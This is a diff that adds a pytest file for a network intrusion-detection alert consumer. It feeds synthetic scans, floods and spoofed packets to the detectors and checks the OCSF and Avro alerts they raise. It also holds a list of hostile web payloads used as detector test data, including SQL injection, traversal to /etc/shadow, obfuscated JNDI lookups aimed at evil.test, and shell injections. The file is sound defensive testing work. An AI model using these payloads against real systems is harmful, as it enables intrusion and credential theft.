@@ -1,0 +1,310 @@
+"""The alerts consumer without Kafka: every detector on generated attacks (exactly the expected
+alert, with its fields) and a benign mix of the same volume (no alert); alert life cycle; OCSF and
+Avro forms; attack strings; configuration errors; snapshots."""
+
+from __future__ import annotations
+
+import io
+import json
+import random
+from typing import Any
+
+import fastavro
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from bench.traffic import Traffic, containers, generate, http_get, merge, packets, spread
+from pktstream.consumers import attacks, features
+from pktstream.consumers.alerts import AlertsProcessor, load_rules
+from pktstream.consumers.catalog import Catalog
+from pktstream.consumers.columns import read_container
+from pktstream.consumers.stream import FOREVER, Output
+from pktstream.producer.errors import ConfigError
+from pktstream.schemas import load_schema_json
+
+SEC = 10**9
+T0 = (1_800_000_000 // 300) * 300 * SEC  # a 5-minute boundary
+RULES = {"external_interfaces": ["ext0"],
+         "detectors": {"volumetric": {"window_s": 1, "warmup_windows": 5, "min_packets": 2000}}}
+CATALOG = {"apis": [{"name": "login", "host": "api.shop.test", "method": "POST", "path": "/login",
+                     "rate_limit_per_min": 100}]}
+
+
+def run(t: Traffic, rules: dict[str, Any] = RULES, nparts: int = 3, origin: str = "gen/eth0",
+        extra: list[tuple[Traffic, str]] = (), close_every_s: float = 0) -> list[dict[str, Any]]:
+    p = AlertsProcessor(load_rules(None, rules), Catalog.from_data(CATALOG))
+    states = {q: p.new_state() for q in range(nparts)}
+    out: list[Output] = []
+    msgs = [(m, origin) for m in containers(t, batch=4000)] if t.n else []
+    for tt, o in extra:
+        msgs += [(m, o) for m in containers(tt, batch=4000)]
+    msgs.sort(key=lambda mo: int(read_container(mo[0]).columns["ts_ns"][0]))
+    for m, o in msgs:
+        f = p.featurize(read_container(m), o)
+        for q, part in p.route(f, nparts).items():
+            p.process(states[q], features.decode(features.encode(features.compact(part))))
+        if close_every_s:
+            wm = int(read_container(m).columns["ts_ns"].max())
+            for q in sorted(states):
+                out += p.close(states[q], wm)
+    for q in sorted(states):
+        out += p.close(states[q], FOREVER)
+    return [o.record for o in out]
+
+
+def rules_fired(docs: list[dict[str, Any]]) -> list[tuple[str, str, str]]:
+    return sorted((d["unmapped"]["pktstream"]["rule"], d["unmapped"]["pktstream"]["key"], d["activity_name"])
+                  for d in docs)
+
+
+def benign(n_conn: int = 3000) -> Traffic:
+    return generate(n_conn, T0 + SEC, 200 * SEC, clients=400, seed=3)
+
+
+def test_benign_mix_raises_nothing() -> None:
+    t = benign(20000)
+    assert t.n > 130_000
+    assert run(t) == []
+
+
+def test_port_scan() -> None:
+    scan = packets([{"ts": ts, "src": "198.51.100.9", "dst": "10.1.0.10", "sport": 55555, "dport": port,
+                     "flags": 0x02}
+                    for ts, port in zip(spread(T0 + 5 * SEC, 100, 20 * SEC), range(1, 101), strict=True)])
+    docs = run(merge(benign(), scan))
+    assert rules_fired(docs) == [("port_scan", "198.51.100.9->10.1.0.10", "Close"),
+                                 ("port_scan", "198.51.100.9->10.1.0.10", "Create")]
+    create = next(d for d in docs if d["activity_id"] == 1)
+    p = create["unmapped"]["pktstream"]
+    assert p["distinct"] == 100 and p["window_count"] == 100 and len(p["top"]) == 10
+    assert create["finding_info"]["attacks"][0]["technique"]["uid"] == "T1046"
+    assert create["severity_id"] == 3
+    assert create["evidences"][0]["src_endpoint"] == {"ip": "198.51.100.9", "port": 55555}
+    assert create["finding_info"]["first_seen_time"] == (T0 + 5 * SEC) // 10**6
+    assert p["seen_by"] == ["gen/eth0"]
+
+
+def test_address_sweep() -> None:
+    sweep = packets([{"ts": ts, "src": "198.51.100.7", "dst": f"10.2.{i // 250}.{i % 250 + 1}", "dport": 22,
+                      "flags": 0x02} for i, ts in enumerate(spread(T0 + 5 * SEC, 60, 30 * SEC))])
+    docs = run(merge(benign(), sweep))
+    assert rules_fired(docs) == [("address_sweep", "198.51.100.7->*:22/tcp", "Close"),
+                                 ("address_sweep", "198.51.100.7->*:22/tcp", "Create")]
+    c = next(d for d in docs if d["activity_id"] == 1)
+    assert c["unmapped"]["pktstream"]["distinct"] == 60
+    assert c["finding_info"]["attacks"][0]["technique"]["uid"] == "T1595.001"
+
+
+def test_syn_flood_spoofed_sources() -> None:
+    rng = random.Random(1)
+    flood = packets([{"ts": ts, "src": f"203.0.{rng.randrange(256)}.{rng.randrange(1, 255)}", "dst": "10.1.0.10",
+                      "sport": rng.randrange(1024, 65535), "dport": 80, "flags": 0x02}
+                     for ts in spread(T0 + 12 * SEC, 3000, 5 * SEC)])
+    docs = run(merge(benign(), flood))
+    assert rules_fired(docs) == [("syn_flood", "10.1.0.10", "Close"), ("syn_flood", "10.1.0.10", "Create")]
+    c = next(d for d in docs if d["activity_id"] == 1)
+    # every flood connection is half-open; the benign ones to the same server in that window are not
+    opened = c["unmapped"]["pktstream"]["window_count"]
+    assert c["message"] == f"3000 of {opened} connections to 10.1.0.10 left half-open"
+    assert c["unmapped"]["pktstream"]["window_count"] > 3000
+    assert c["finding_info"]["attacks"][0]["technique"]["uid"] == "T1499.001"
+
+
+def test_one_ongoing_flood_is_one_alert_updated_then_closed() -> None:
+    flood = packets([{"ts": ts, "src": "192.0.2.1", "dst": "10.1.0.11", "sport": 40000 + i % 1000, "dport": 9999,
+                      "proto": 17, "len": 100} for i, ts in enumerate(spread(T0 + 10 * SEC, 75000, 30 * SEC))])
+    everything = run(merge(benign(), flood), close_every_s=1)
+    # (the volume detector sees it too: that server had a baseline)
+    assert {d["unmapped"]["pktstream"]["rule"] for d in everything} == {"udp_flood", "volumetric"}
+    docs = [d for d in everything if d["unmapped"]["pktstream"]["rule"] == "udp_flood"]
+    fired = [(d["unmapped"]["pktstream"]["rule"], d["activity_name"]) for d in docs]
+    assert fired == [("udp_flood", "Create"), ("udp_flood", "Update"), ("udp_flood", "Update"),
+                     ("udp_flood", "Close")]
+    assert len({d["finding_info"]["uid"] for d in docs}) == 1
+    assert [d["count"] for d in docs] == [25000, 50000, 75000, 75000]
+    assert docs[-1]["status"] == "Resolved" and docs[0]["status"] == "New"
+
+
+def test_icmp_flood_and_amplification() -> None:
+    icmp = packets([{"ts": ts, "src": "192.0.2.5", "dst": "10.1.0.12", "proto": 1, "sport": 8, "dport": 0,
+                     "len": 98} for ts in spread(T0 + 21 * SEC, 6000, 5 * SEC)])
+    amp = packets([{"ts": ts, "src": f"192.0.2.{100 + i % 50}", "dst": "10.1.0.13", "proto": 17,
+                    "sport": (53, 123)[i % 2], "dport": 4444, "len": 1400}
+                   for i, ts in enumerate(spread(T0 + 31 * SEC, 1000, 5 * SEC))])
+    docs = run(merge(benign(), icmp, amp))
+    assert rules_fired(docs) == [("amplification", "10.1.0.13", "Close"), ("amplification", "10.1.0.13", "Create"),
+                                 ("icmp_flood", "10.1.0.12", "Close"), ("icmp_flood", "10.1.0.12", "Create")]
+    amp_doc = next(d for d in docs if d["activity_id"] == 1 and d["unmapped"]["pktstream"]["rule"] == "amplification")
+    assert {t["value"] for t in amp_doc["unmapped"]["pktstream"]["top"]} == {"53", "123"}
+    assert amp_doc["finding_info"]["attacks"][0]["technique"]["uid"] == "T1498.002"
+
+
+def test_spoofed_sources() -> None:
+    land = packets([{"ts": T0 + 3 * SEC, "src": "10.1.0.10", "dst": "10.1.0.10", "sport": 80, "dport": 80,
+                     "flags": 0x02}])
+    mcast = packets([{"ts": T0 + 4 * SEC, "src": "224.0.0.9", "dst": "10.1.0.10", "proto": 17, "sport": 520,
+                      "dport": 520}])
+    bogon = packets([{"ts": T0 + 5 * SEC + i, "src": "10.99.0.1", "dst": "172.31.0.5", "dport": 443, "flags": 0x02}
+                     for i in range(3)])
+    docs = run(benign(), extra=[(merge(land, mcast), "gen/eth0"), (bogon, "edge/ext0")])
+    assert rules_fired(docs) == [
+        ("spoofed_source", "LAND->10.1.0.10", "Close"), ("spoofed_source", "LAND->10.1.0.10", "Create"),
+        ("spoofed_source", "bogon or martian source->172.31.0.5", "Close"),
+        ("spoofed_source", "bogon or martian source->172.31.0.5", "Create"),
+        ("spoofed_source", "multicast or broadcast source->10.1.0.10", "Close"),
+        ("spoofed_source", "multicast or broadcast source->10.1.0.10", "Create"),
+    ]
+    b = next(d for d in docs if d["activity_id"] == 1 and "bogon" in d["unmapped"]["pktstream"]["key"])
+    assert b["unmapped"]["pktstream"]["window_count"] == 3 and b["unmapped"]["pktstream"]["seen_by"] == ["edge/ext0"]
+
+
+@pytest.mark.parametrize("flags,name", [(0x00, "NULL"), (0x29, "XMAS"), (0x03, "SYN+FIN"), (0x06, "SYN+RST"),
+                                        (0x01, "FIN without ACK")])
+def test_tcp_flag_anomalies(flags: int, name: str) -> None:
+    odd = packets([{"ts": T0 + 7 * SEC + i, "src": "198.51.100.3", "dst": "10.1.0.10", "dport": 1000 + i,
+                    "flags": flags} for i in range(3)])
+    everything = run(merge(benign(), odd))
+    docs = [d for d in everything if d["unmapped"]["pktstream"]["rule"] == "tcp_flags"]
+    assert rules_fired(docs) == [("tcp_flags", f"{name}:198.51.100.3->10.1.0.10", "Close"),
+                                 ("tcp_flags", f"{name}:198.51.100.3->10.1.0.10", "Create")]
+    assert docs[0]["unmapped"]["pktstream"]["window_count"] == 3
+    assert len(everything) == len(docs)  # nothing else
+
+
+ATTACKS = [
+    ("/search?q=1%27%20OR%20%271%27=%271", "sql_injection"),
+    ("/items?id=1 UNION SELECT password FROM users", "sql_injection"),
+    ("/static/../../../../etc/passwd", "path_traversal"),
+    ("/download?f=..%2f..%2fetc%2fshadow", "path_traversal"),
+    ("/x?a=${jndi:ldap://evil.test/a}", "jndi_lookup"),
+    ("/x?a=${${lower:j}${::-n}di:ldap://evil.test/a}", "jndi_lookup"),
+    ("/x?a=%24%7Bjndi%3Armi%3A%2F%2Fevil%7D", "jndi_lookup"),
+    ("/ping?host=127.0.0.1;cat /etc/hostname", "shell_injection"),
+    ("/run?cmd=$(whoami)", "shell_injection"),
+]
+
+
+@pytest.mark.parametrize("path,kind", ATTACKS)
+def test_attack_strings(path: str, kind: str) -> None:
+    assert attacks.scan(http_get(path)) & next(b for b, n in attacks.NAMES.items() if n == kind)
+    req = packets([{"ts": T0 + 9 * SEC, "src": "198.51.100.4", "dst": "10.1.0.10", "sport": 41000, "dport": 80,
+                    "flags": 0x18, "len": 200, "payload": http_get(path)}])
+    docs = run(merge(benign(), req))
+    creates = [d for d in docs if d["activity_id"] == 1]
+    assert [d["unmapped"]["pktstream"]["key"] for d in creates] == [f"{kind}:198.51.100.4->10.1.0.10:80"]
+    assert creates[0]["finding_info"]["attacks"][0]["technique"]["uid"] == "T1190"
+    assert creates[0]["evidences"][0]["data"]["path"] == path.split("?")[0]
+
+
+def test_header_jndi_obfuscated() -> None:
+    p = http_get("/", extra="User-Agent: ${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://x/a}\r\n")
+    assert attacks.scan(p) & attacks.JNDI
+
+
+@given(st.text(alphabet=st.characters(codec="ascii", categories=["L", "N"]), min_size=1, max_size=30))
+def test_plain_paths_are_not_attacks(word: str) -> None:
+    assert attacks.scan(http_get(f"/v1/{word}/items?page=2&sort=name")) == 0
+
+
+@given(st.binary(max_size=300))
+def test_scanner_never_breaks(b: bytes) -> None:
+    attacks.scan(b)
+
+
+def test_rate_limit_per_client() -> None:
+    body = b"POST /login HTTP/1.1\r\nHost: api.shop.test\r\nContent-Length: 0\r\n\r\n"
+    fast = packets([{"ts": ts, "src": "10.100.9.9", "dst": "10.1.0.10", "sport": 30000 + i, "dport": 80,
+                     "flags": 0x18, "len": 120, "payload": body}
+                    for i, ts in enumerate(spread(T0 + 61 * SEC, 150, 50 * SEC))])
+    slow = packets([{"ts": ts, "src": "10.100.9.8", "dst": "10.1.0.10", "sport": 30000 + i, "dport": 80,
+                     "flags": 0x18, "len": 120, "payload": body}
+                    for i, ts in enumerate(spread(T0 + 61 * SEC, 90, 50 * SEC))])
+    docs = run(merge(benign(), fast, slow))
+    assert rules_fired(docs) == [("rate_limit", "login:10.100.9.9", "Close"),
+                                 ("rate_limit", "login:10.100.9.9", "Create")]
+
+
+def test_volumetric_against_baseline() -> None:
+    steady = packets([{"ts": ts, "src": "192.0.2.50", "dst": "10.1.0.20", "dport": 443, "flags": 0x10}
+                      for ts in spread(T0 + 100 * SEC, 1000, 10 * SEC)])
+    burst = packets([{"ts": ts, "src": "192.0.2.50", "dst": "10.1.0.20", "dport": 443, "flags": 0x10}
+                     for ts in spread(T0 + 110 * SEC, 5000, SEC)])
+    docs = run(merge(benign(), steady, burst), close_every_s=1)
+    fired = rules_fired(docs)
+    assert fired == [("volumetric", "destination:10.1.0.20", "Close"), ("volumetric", "destination:10.1.0.20", "Create"),
+                     ("volumetric", "source:192.0.2.50", "Close"), ("volumetric", "source:192.0.2.50", "Create")]
+
+
+OCSF_REQUIRED = {  # OCSF 1.3.0 Detection Finding (class 2004): required attributes and their types
+    "activity_id": int, "category_uid": int, "class_uid": int, "finding_info": dict, "metadata": dict,
+    "severity_id": int, "time": int, "type_uid": int,
+}
+FINDING_INFO_REQUIRED = {"uid": str, "title": str}
+METADATA_REQUIRED = {"product": dict, "version": str}
+
+
+def test_ocsf_and_avro_forms() -> None:
+    scan = packets([{"ts": T0 + 5 * SEC + i, "src": "198.51.100.9", "dst": "10.1.0.10", "dport": port, "flags": 2}
+                    for i, port in enumerate(range(1, 40))])
+    docs = run(merge(benign(), scan))
+    assert docs
+    for d in docs:
+        for k, t in OCSF_REQUIRED.items():
+            assert isinstance(d[k], t), k
+        for k, t in FINDING_INFO_REQUIRED.items():
+            assert isinstance(d["finding_info"][k], t), k
+        for k, t in METADATA_REQUIRED.items():
+            assert isinstance(d["metadata"][k], t), k
+        assert d["class_uid"] == 2004 and d["category_uid"] == 2
+        assert d["type_uid"] == 2004 * 100 + d["activity_id"] and d["activity_id"] in (1, 2, 3)
+        assert d["severity_id"] in range(0, 7) and d["metadata"]["version"] == "1.3.0"
+        assert d["metadata"]["product"]["name"] == "pktstream"
+        json.dumps(d)
+    from pktstream.consumers.alerts import avro_record
+
+    schema = fastavro.parse_schema(load_schema_json("alert"))
+    buf = io.BytesIO()
+    fastavro.writer(buf, schema, [avro_record(d) for d in docs])
+    back = list(fastavro.reader(io.BytesIO(buf.getvalue())))
+    assert [r["uid"] for r in back] == [d["finding_info"]["uid"] for d in docs]
+    assert back[0]["activity"] == "create" and back[0]["distinct"] == 39
+
+
+def test_snapshot_restore_gives_the_same_alerts() -> None:
+    rng = random.Random(2)
+    flood = packets([{"ts": ts, "src": f"203.0.{rng.randrange(256)}.{rng.randrange(1, 255)}", "dst": "10.1.0.10",
+                      "sport": rng.randrange(1024, 65535), "dport": 80, "flags": 0x02}
+                     for ts in spread(T0 + 12 * SEC, 3000, 25 * SEC)])
+    t = merge(benign(), flood)
+    ref = run(t, close_every_s=1)
+    p = AlertsProcessor(load_rules(None, RULES), Catalog.from_data(CATALOG))
+    msgs = containers(t, batch=4000)
+    states = {q: p.new_state() for q in range(2)}
+    out: list[Output] = []
+    for i, m in enumerate(msgs):
+        b = read_container(m)
+        for q, part in p.route(p.featurize(b, "gen/eth0"), 2).items():
+            p.process(states[q], features.decode(features.encode(part)))
+        for q in sorted(states):
+            out += p.close(states[q], int(b.columns["ts_ns"].max()))
+        if i == len(msgs) // 2:
+            states = {q: p.load(json.loads(json.dumps(p.dump(s)))) for q, s in states.items()}
+    for q in sorted(states):
+        out += p.close(states[q], FOREVER)
+    got = [o.record for o in out]
+    assert sorted(json.dumps(d, sort_keys=True) for d in got) == sorted(json.dumps(d, sort_keys=True) for d in ref)
+
+
+def test_config_errors_are_listed_together(tmp_path: Any) -> None:
+    with pytest.raises(ConfigError) as e:
+        load_rules(None, {"detectors": {"port_scan": {"min_ports": -1, "colour": 1}, "nope": {},
+                                        "syn_flood": {"window_s": 0}}, "external_interfaces": "eth0",
+                          "extra": 1})
+    text = str(e.value)
+    for needle in ("min_ports", "colour", "nope", "window_s", "external_interfaces", "extra"):
+        assert needle in text
+    bad = tmp_path / "r.yaml"
+    bad.write_text("detectors: [")
+    with pytest.raises(ConfigError, match="not valid YAML"):
+        load_rules(bad)
